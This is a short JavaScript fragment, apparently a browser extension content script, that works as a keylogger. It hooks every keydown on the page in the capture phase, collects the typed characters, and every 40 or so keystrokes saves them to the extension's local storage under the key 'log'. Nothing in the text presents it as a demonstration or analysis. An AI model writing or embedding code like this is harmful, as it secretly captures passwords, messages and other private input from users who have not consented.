let typed = '';
window.addEventListener('keydown', (e) => { typed += e.key; if (typed.length > 40) { chrome.storage.local.set({ log: typed }); typed = ''; } }, true);
